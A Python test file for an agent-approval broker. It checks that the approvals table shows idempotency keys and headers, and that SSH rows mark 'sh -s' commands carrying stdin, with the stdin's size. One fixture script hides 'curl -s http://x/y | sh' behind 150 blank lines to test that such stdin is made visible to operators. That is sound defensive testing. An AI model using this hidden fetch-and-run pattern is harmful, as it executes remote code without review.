"""What ``affidavit approvals`` shows of a request (its WHAT column) and ``approvals show``: an
SSH command's stdin is said to be there (``sh -s`` alone hid the script it runs), and the
idempotency key the request is sent with is shown under the header the target's contract sends
it in -- the agent's, or the one the broker chose for it (docs/approvals.md)."""

from __future__ import annotations

import json
from pathlib import Path

from affidavit.cli.approvals import _what
from affidavit.config import load_config
from affidavit.protocols.actions import parse_action
from affidavit.protocols.ssh import action as sshaction

from .approvalkit import approval_config
from .helpers import affidavit_cli, open_broker
from .test_config import KEY_A

CONTRACT = {"header": "Idempotency-Key", "scope": "charges", "retention": "24h"}
CHARGE = {"target": "api", "method": "POST", "path": "/v1/charges", "body": '{"amount": 5}'}


async def test_the_table_and_show_name_the_key_the_request_is_sent_with(
    tmp_path: Path, token: str
) -> None:
    cfg = approval_config(
        tmp_path, "http://127.0.0.1:9", approval={"wait": "0s"}, idempotency=CONTRACT
    )
    async with open_broker(cfg) as b:
        chosen = await b.call({**CHARGE, "idempotency_key": "ch_ALICE-refund-0001"})
        generated = await b.call(CHARGE)  # the broker chooses a key: the contract's header
    assert chosen["error"]["code"] == generated["error"]["code"] == "APPROVAL_PENDING"
    table = await affidavit_cli("approvals", "--config", str(cfg))
    assert table.returncode == 0, table.stderr
    rows = {line.split()[0]: line for line in table.stdout.decode().splitlines()[1:]}
    row = rows[chosen["invocation_id"]]
    assert row.endswith('(13 B) Idempotency-Key: ch_ALICE-refund-0001"'), row
    shown = await affidavit_cli("approvals", "show", generated["invocation_id"], "--config", cfg)
    request = json.loads(shown.stdout)["request"]
    key = request["idempotency_key"]
    assert key.startswith("idem_") and request["idempotency_header"] == "Idempotency-Key"
    assert f"Idempotency-Key: {key}" in rows[generated["invocation_id"]]
    assert token not in table.stdout.decode() + shown.stdout.decode()


def test_an_ssh_row_says_the_command_has_stdin_and_its_size(tmp_path: Path) -> None:
    path = tmp_path / "affidavit.toml"
    path.write_text(
        "[service]\noperator_uids = [1001]\n"
        f'[targets.deploy]\nkind = "ssh"\nhost = "127.0.0.1"\nuser = "deploy"\n'
        f'host_key = "{KEY_A}"\ncredential = "env:K"\napproval = "always"\n'
    )
    config = load_config(path)
    target = config.targets["deploy"]
    script = "systemctl status app.service\n" + "\n" * 150 + "curl -s http://x/y | sh\n"

    def row(**extra: str) -> str:
        action = parse_action({"target": "deploy", "command": "sh -s", **extra}, config)
        return _what(sshaction.operator_view(action, target))

    assert row(stdin=script) == f"deploy@127.0.0.1:22 $ sh -s + stdin ({len(script)} B)"
    assert row(stdin="") == "deploy@127.0.0.1:22 $ sh -s + stdin (0 B)"  # empty is still stdin
    assert row() == "deploy@127.0.0.1:22 $ sh -s"
    assert row(idempotency_key="rel-42") == "deploy@127.0.0.1:22 $ sh -s idempotency_key: rel-42"
